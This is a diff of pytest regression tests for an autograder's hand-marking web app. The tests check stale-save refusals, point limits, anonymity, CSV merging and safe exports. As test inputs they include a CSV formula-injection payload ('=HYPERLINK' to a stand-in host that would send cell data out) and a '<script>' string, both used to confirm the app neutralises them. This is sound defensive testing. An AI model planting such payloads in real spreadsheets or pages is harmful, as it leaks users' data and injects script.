@@ -6,6 +6,7 @@ test_mark_browser.py drives the real thing in Chromium."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 import sqlite3
 from pathlib import Path
@@ -14,7 +15,7 @@ import hostile
 import lms_samples
 import pytest
 
-from autograder import assignment, inputs, report
+from autograder import assignment, csvcells, inputs, report
 from instructor import lms, manual
 from instructor.ledger import Conflict, Ledger, LedgerError
 from instructor.mark.app import create_app
@@ -23,20 +24,29 @@ FILES = [f"student{k:02d}_{10100 + k}_{20000 + k}_00_toy.ipynb" for k in range(6
 STUDENTS = [(f"Student {k:02d}", str(10100 + k), "", "", "A") for k in range(6)]
 
 
+def row(k: int, f: str, sha: str | None = None) -> report.Result:
+    r = report.Result(file=f, stem=inputs.safe_stem(f), status="ok", sha256=sha or f"{k:064x}",
+                      question_points={"q1": 2.0, "q2": float(k % 3), "q3": 1.0})
+    r.answers = {"q4": {"found": True, "cells": [
+        {"cell": 14, "type": "markdown", "source": f"answer {k} <script>x()</script>",
+         "unanswered": False}]}}
+    return r
+
+
+def regrade(out: Path, rows: list[report.Result]) -> None:
+    """``course grade`` into ``out`` again with these rows, and the ledger's grades given back."""
+    import shutil
+    shutil.rmtree(out / "results")
+    report.write_all(out, assignment.load(str(hostile.FIXTURE)), rows, {"workers": 1, "mode": "weak"})
+    manual.reapply(out)
+
+
 def graded(tmp_path: Path, name: str = "out") -> Path:
     """Six rows of the toy assignment as course grade leaves them (q4, 1 point, graded by hand)."""
     asg = assignment.load(str(hostile.FIXTURE))
-    rows = []
-    for k, f in enumerate(FILES):
-        r = report.Result(file=f, stem=inputs.safe_stem(f), status="ok", sha256=f"{k:064x}",
-                          question_points={"q1": 2.0, "q2": float(k % 3), "q3": 1.0})
-        r.answers = {"q4": {"found": True, "cells": [
-            {"cell": 14, "type": "markdown", "source": f"answer {k} <script>x()</script>",
-             "unanswered": False}]}}
-        rows.append(r)
     out = tmp_path / name
     out.mkdir()
-    report.write_all(out, asg, rows, {"workers": 1, "mode": "weak"})
+    report.write_all(out, asg, [row(k, f) for k, f in enumerate(FILES)], {"workers": 1, "mode": "weak"})
     return out
 
 
@@ -149,6 +159,16 @@ def post(c, path: str, body: dict):
     return c.post(path, json=body, headers={"X-Mark": "1"})
 
 
+def rid(c, n: int) -> str:
+    """The id of the answer at position ``n``, as the page has it."""
+    return c.get("/api/q/q4").get_json()["answers"][n]["id"]
+
+
+def save(c, n: int, body: dict):
+    """A change to answer ``n`` as the page sends it (with the row's id)."""
+    return post(c, f"/api/q/q4/{n}", {"id": rid(c, n), **body})
+
+
 def test_nothing_without_a_token_and_no_change_without_the_header(tmp_path):
     out = graded(tmp_path)
     app = create_app(out, TA)
@@ -162,10 +182,10 @@ def test_nothing_without_a_token_and_no_change_without_the_header(tmp_path):
     assert "script-src 'self'" in csp and "default-src 'none'" in csp and "unsafe-inline'" not in csp.split(
         "style-src")[0]
     assert c.post("/api/q/q4/items", json={"points": 1, "text": "x"}).status_code == 403   # no X-Mark
-    card = c.get("/api/q/q4/0/card").get_data(as_text=True)
+    card = c.get(f"/api/q/q4/0/card?id={rid(c, 0)}").get_data(as_text=True)
     assert "&lt;script&gt;x()&lt;/script&gt;" in card and "<script" not in card
     assert not any(f in card for f in FILES)                   # anonymous by default
-    named = client(out, names=True).get("/api/q/q4/0/card").get_data(as_text=True)
+    named = client(out, names=True).get(f"/api/q/q4/0/card?id={rid(c, 0)}").get_data(as_text=True)
     assert any(f in named for f in FILES)
 
 
@@ -174,12 +194,12 @@ def test_a_save_from_an_old_version_is_refused_with_a_409(tmp_path):
     ana, ben = client(out, "tok-ana"), client(out, "tok-ben")
     state = post(ana, "/api/q/q4/items", {"points": 1, "text": "Correct"}).get_json()
     item = state["items"][0]["id"]
-    assert post(ana, "/api/q/q4/0", {"version": 0, "items": [item]}).status_code == 200
-    late = post(ben, "/api/q/q4/0", {"version": 0, "comment": "mine"})
+    assert save(ana, 0, {"version": 0, "items": [item]}).status_code == 200
+    late = save(ben, 0, {"version": 0, "comment": "mine"})
     assert late.status_code == 409
     body = late.get_json()
     assert body["answer"]["items"] == [item] and body["by"][0]["who"] == "ana"
-    bad = post(ana, "/api/q/q4/1", {"version": 0, "points": "3"})          # q4 is worth 1
+    bad = save(ana, 1, {"version": 0, "points": "3"})          # q4 is worth 1
     assert bad.status_code == 400 and "between 0 and 1" in bad.get_json()["error"]
 
 
@@ -207,7 +227,7 @@ def test_the_browsers_route_writes_the_same_lms_files_as_the_csv_route(tmp_path)
     from instructor.mark.folder import Folder
     rows = Folder(web_route).rows
     for n, row in enumerate(rows):
-        assert post(c, f"/api/q/q4/{n}", {"version": labels[n]["version"], "items": use[points[row.file]]}
+        assert save(c, n, {"version": labels[n]["version"], "items": use[points[row.file]]}
                     ).status_code == 200, by_file
     done = post(c, "/api/export", {}).get_json()
     assert "lines" in done, done
@@ -226,3 +246,224 @@ def test_the_database_is_one_sqlite_file_in_wal_mode(tmp_path):
     Ledger(out).close()
     mode = sqlite3.connect(out / "hand_grades.sqlite").execute("PRAGMA journal_mode").fetchone()[0]
     assert mode == "wal"
+
+
+def test_a_regrade_that_moves_the_rows_refuses_a_save_or_card_of_the_old_position(tmp_path):
+    """Red team 2 F01: a late submission graded while the page is open shifts the positions; a save
+    made from the page as it was is refused (409, "press r"), never given to the row now at its place."""
+    out = graded(tmp_path)
+    c = client(out)
+    state = c.get("/api/q/q4").get_json()
+    n = len(state["answers"]) - 1                              # the TA reads the last answer
+    seen = state["answers"][n]
+    assert c.get(f"/api/q/q4/{n}/card?id={seen['id']}").status_code == 200
+    from instructor.mark.folder import Folder
+    read = Folder(out).rows[n].file
+    late = next(f"late{k}_{10900 + k}_1_00_toy.ipynb" for k in range(1000)
+                if csvcells.file_key(f"late{k}_{10900 + k}_1_00_toy.ipynb") < csvcells.file_key(read))
+    regrade(out, [row(k, f) for k, f in enumerate(FILES)] + [row(99, late)])
+    moved = post(c, f"/api/q/q4/{n}", {"id": seen["id"], "version": seen["version"], "points": "1"})
+    assert moved.status_code == 409 and moved.get_json()["regraded"], moved.get_json()
+    assert "press r" in moved.get_json()["error"]
+    assert c.get(f"/api/q/q4/{n}/card?id={seen['id']}").status_code == 409
+    assert post(c, f"/api/q/q4/{n}", {"version": 0, "points": "1"}).status_code == 409   # no id: refused
+    assert not Ledger(out).answers()                           # nothing saved on anyone
+    now = c.get("/api/q/q4").get_json()["answers"]
+    assert [a["id"] for a in now] != [a["id"] for a in state["answers"]]
+    k = [a["id"] for a in now].index(seen["id"])               # the answer she read, at its new place
+    assert post(c, f"/api/q/q4/{k}", {"id": seen["id"], "version": 0, "points": "1"}).status_code == 200
+    assert [(key[1], a.points) for key, a in Ledger(out).answers().items()] == [(read, 1.0)]
+
+
+def test_hand_grades_over_a_lowered_maximum_are_listed_never_given_back_or_exported(tmp_path):
+    """Red team 2 F09: q4 lowered from 1 to 0.5 point and the class re-graded: a typed 1 is listed
+    as not applied (kept in the ledger), not in grades.csv; a rubric's sum is clamped to the new
+    maximum; the running course mark checks typed points against the new maximum."""
+    import dataclasses
+    out = graded(tmp_path)
+    c = client(out)
+    state = post(c, "/api/q/q4/items", {"points": 1, "text": "Right"}).get_json()
+    from instructor.mark.folder import Folder
+    files = [r.file for r in Folder(out).rows]
+    assert save(c, 0, {"version": 0, "points": "1"}).status_code == 200
+    assert save(c, 1, {"version": 0, "items": [state["items"][0]["id"]]}).status_code == 200
+    asg = assignment.load(str(hostile.FIXTURE))
+    asg = dataclasses.replace(asg, questions=[dataclasses.replace(q, points=0.5) if q.name == "q4" else q
+                                              for q in asg.questions])
+    import shutil
+    shutil.rmtree(out / "results")
+    report.write_all(out, asg, [row(k, f) for k, f in enumerate(FILES)], {"workers": 1, "mode": "weak"})
+    lines = manual.reapply(out)
+    why = f"1 not applied (still in the ledger): q4 is now worth 0.5 points, not 1.0: {files[0]} q4"
+    assert why in lines[0]
+    grades = {r["file"]: r["q4"] for r in csv.DictReader((out / "grades.csv").open())}
+    assert grades[files[0]] == "" and grades[files[1]] == "0.5"
+    answers = c.get("/api/q/q4").get_json()["answers"]
+    assert (answers[0]["grade"], answers[0]["typed"], answers[1]["grade"]) == (None, 1.0, 0.5)
+    again = save(c, 0, {"version": answers[0]["version"], "points": "1"})
+    assert again.status_code == 400 and "between 0 and 0.5" in again.get_json()["error"]
+    assert manual.export(out)                                   # the export: not over the maximum either
+    assert {r["file"]: r["q4"] for r in csv.DictReader((out / "grades.csv").open())}[files[0]] == ""
+
+
+def test_a_rubric_item_of_infinite_points_is_refused_and_never_full_marks(tmp_path):
+    """Red team 2 F07: `1e400`, `inf` or `nan` typed as a new item's points were saved (Infinity: the
+    page could not read the question any more; +inf and -inf summed to NaN, clamped to full marks)."""
+    out = graded(tmp_path)
+    c = client(out)
+    for bad in ("1e400", "inf", "nan", "-Infinity"):
+        r = post(c, "/api/q/q4/items", {"points": bad, "text": "Huge"})
+        assert r.status_code == 400, (bad, r.status_code)
+    led = Ledger(out)
+    assert led.items("q4") == []
+    with pytest.raises(LedgerError, match="finite"), led.transaction():
+        led.add_item("q4", float("inf"), "Huge", "ana")
+    ok = post(c, "/api/q/q4/items", {"points": "0.5", "text": "Half"}).get_json()["items"][0]
+    assert post(c, f"/api/items/{ok['id']}", {"version": ok["version"], "points": "inf"}).status_code == 400
+    # a ledger that holds such items all the same (written before the check): no full marks, and
+    # the page gets an error it can show, not JSON it cannot parse
+    with led.transaction():
+        led.db.execute("INSERT INTO item(question, points, text, position, version, who, at) VALUES "
+                       "('q4', 1e999, 'up', 2, 1, 'x', 'x'), ('q4', -1e999, 'down', 3, 1, 'x', 'x')")
+    ids = [i.id for i in led.items("q4")]
+    with led.transaction():
+        led.save(keys(out)[0], 0, "ana", items=ids[1:])
+    assert led.grade(led.answer(keys(out)[0])) == 0.0
+    shown = c.get("/api/q/q4")
+    assert shown.status_code == 500 and "not finite" in shown.get_json()["error"]
+
+
+def test_a_refused_save_does_not_say_whose_answer_it_is(tmp_path):
+    """Red team 2 F08: a 409 returned the ledger's history as stored (key and file: the student's
+    name on Canvas); an anonymous page gets who changed it and when, nothing more."""
+    out = graded(tmp_path)
+    ana, ben = client(out, "tok-ana"), client(out, "tok-ben")
+    assert save(ana, 0, {"version": 0, "comment": "first"}).status_code == 200
+    late = save(ben, 0, {"version": 0, "comment": "second"})
+    assert late.status_code == 409
+    text = late.get_data(as_text=True)
+    assert not any(f in text for f in FILES) and not any(f"{k:064x}" in text for k in range(6))
+    assert late.get_json()["by"] == [{"who": "ana", "at": late.get_json()["answer"]["at"]}]
+    named = client(out, "tok-ben", names=True)
+    assert any(f in save(named, 0, {"version": 0, "comment": "x"}).get_data(as_text=True) for f in FILES)
+
+
+def _csv_of(out: Path, path: Path, points: dict[str, str], comments: dict[str, str] | None = None) -> Path:
+    """A TA's copy of manual.csv (or of the copy ``path`` already is) with these points (and
+    comments) typed in."""
+    source = path if path.exists() else out / "manual.csv"
+    rows = list(csv.reader(source.open(newline="", encoding="utf-8")))
+    for r in rows[1:]:
+        r[rows[0].index("q4")] = points.get(r[0], r[rows[0].index("q4")])
+        r[rows[0].index("comment")] = (comments or {}).get(r[0], r[rows[0].index("comment")])
+    with open(path, "w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows(rows)
+    return path
+
+
+def test_a_csv_merged_again_does_not_write_over_a_grade_given_since_in_the_browser(tmp_path):
+    """Red team 2 F02: ben merges his CSV, ana grades one answer 0 in the browser, ben merges his
+    CSV again with a typo fixed in another row: ana's 0 is refused (listed, exit 1, nothing
+    changed), ben's own fix is no conflict, and --force writes over it."""
+    out = graded(tmp_path)
+    ben = _csv_of(out, tmp_path / "ben.csv", {f: "1" for f in FILES})
+    assert manual.main([str(out), str(ben)]) == 0
+    c = client(out)
+    from instructor.mark.folder import Folder
+    victim = Folder(out).rows[0].file
+    version = c.get("/api/q/q4").get_json()["answers"][0]["version"]
+    assert save(c, 0, {"version": version, "points": "0", "comment": "no plot: 0"}).status_code == 200
+    typo = next(f for f in FILES if f != victim)
+    _csv_of(out, ben, {**{f: "1" for f in FILES}, typo: "0.5"})
+    before = (out / "grades.csv").read_bytes()
+    assert manual.main([str(out), str(ben)]) == 1
+    assert (out / "grades.csv").read_bytes() == before
+    grades = lambda: {r["file"]: r["q4"] for r in csv.DictReader((out / "grades.csv").open())}  # noqa: E731
+    _csv_of(out, ben, {**{f: "1" for f in FILES}, typo: "0.5", victim: ""})    # ana's cell left out
+    assert manual.main([str(out), str(ben)]) == 0
+    assert (grades()[victim], grades()[typo]) == ("0.0", "0.5")
+    _csv_of(out, ben, {victim: "1"})
+    assert manual.main([str(out), str(ben), "--force"]) == 0
+    assert grades()[victim] == "1.0"
+
+
+def test_a_stale_csv_row_does_not_grade_a_reupload_nobody_read(tmp_path, capsys):
+    """Red team 2 F02b: plain names (alice.ipynb); Alice re-uploads after her q4 was graded. The TA's
+    old CSV merged again (for Bob's comment) does not grade her new notebook."""
+    out = graded(tmp_path)
+    ta = _csv_of(out, tmp_path / "ta.csv", {f: "1" for f in FILES})
+    assert manual.main([str(out), str(ta)]) == 0
+    regrade(out, [row(k, f, sha="f" * 64 if k == 0 else None) for k, f in enumerate(FILES)])
+    _csv_of(out, ta, {f: "1" for f in FILES}, {FILES[1]: "Nice work"})
+    capsys.readouterr()
+    assert manual.main([str(out), str(ta)]) == 1
+    err = capsys.readouterr().err
+    assert f"({FILES[0]}): q4 = 1.0: the notebook was re-uploaded since this CSV was made" in err
+    grades = {r["file"]: r["q4"] for r in csv.DictReader((out / "grades.csv").open())}
+    assert grades[FILES[0]] == ""
+
+
+def test_a_merge_whose_file_cannot_be_renamed_keeps_the_ledger_and_names_the_stale_files(
+        tmp_path, monkeypatch, capsys):
+    """Red team 2 F14: a rename that fails half-way (canvas_import.csv held by another program) left
+    grades.csv merged and the ledger rolled back, saying "nothing was changed"; the grades then
+    vanished at the next re-grade. The ledger is committed first; the message names what is stale."""
+    import os
+
+    from instructor.mark import main as mark_main
+    out = graded(tmp_path)
+    book = tmp_path / "gradebook.csv"
+    book.write_bytes(lms_samples.canvas_gradebook(STUDENTS))
+    lms.remember(out, book, None)
+    filled = _csv_of(out, tmp_path / "f.csv", {f: "1" for f in FILES})
+    replace = os.replace
+
+    def held(src, dst):
+        if Path(dst).name == "canvas_import.csv":
+            raise PermissionError(1, "Operation not permitted", str(dst))
+        return replace(src, dst)
+
+    monkeypatch.setattr(manual.os, "replace", held)
+    capsys.readouterr()
+    assert manual.main([str(out), str(filled)]) == 1
+    err = capsys.readouterr().err
+    assert "nothing in" not in err and "canvas_import.csv" in err and f"course mark {out} --export" in err
+    assert len(Ledger(out).entries()) == len(FILES)                  # the source of truth has them
+    assert not list(out.rglob("*.part"))
+    monkeypatch.setattr(manual.os, "replace", replace)
+    assert mark_main([str(out), "--export"]) == 0
+    got = lms_samples.canvas_import((out / "canvas_import.csv").read_bytes())["grades"]
+    assert {who: v for (who, _col), v in got.items()} == {str(10100 + k): f"{4 + k % 3:g}" for k in range(6)}
+    regrade(out, [row(k, f) for k, f in enumerate(FILES)])
+    assert {r["q4"] for r in csv.DictReader((out / "grades.csv").open())} == {"1.0"}
+
+
+def test_rubric_stats_csv_runs_no_formula_a_rubric_item_holds(tmp_path):
+    """Red team 2 F03 (its rubric_stats.csv part): an item's text went into the CSV raw."""
+    out = graded(tmp_path)
+    c = client(out)
+    for text in ('=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1 plot", "'quoted"):
+        assert post(c, "/api/q/q4/items", {"points": "0", "text": text}).status_code == 200
+    assert "lines" in post(c, "/api/export", {}).get_json()
+    for body in (c.get("/rubric.csv").get_data(as_text=True),
+                 (out / "rubric_stats.csv").read_text(encoding="utf-8")):
+        texts = [r[3] for r in list(csv.reader(io.StringIO(body)))[1:]]
+        assert texts == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1)", "'+1 plot", "''quoted"]
+        assert [csvcells.cell_text(t) for t in texts][0] == '=HYPERLINK("http://x/?"&A1)'
+
+
+def test_course_mark_keeps_serving_while_a_regrade_has_removed_grades_csv(tmp_path):
+    """A re-grade removes grades.csv and questions.json before it writes them again (red team 2
+    F11): the server answered 500 meanwhile; it serves the last state it read, and checks typed
+    points against the points it last read."""
+    out = graded(tmp_path)
+    c = client(out)
+    before = c.get("/api/q/q4").get_json()
+    for name in ("grades.csv", "questions.json"):
+        (out / name).rename(tmp_path / name)
+    assert c.get("/api/q/q4").get_json()["answers"] == before["answers"]
+    assert save(c, 0, {"version": 0, "points": "2"}).status_code == 400          # still worth 1
+    assert save(c, 0, {"version": 0, "points": "1"}).status_code == 200
+    for name in ("grades.csv", "questions.json"):
+        (tmp_path / name).rename(out / name)
+    assert c.get("/api/q/q4").get_json()["answers"][0]["grade"] == 1.0
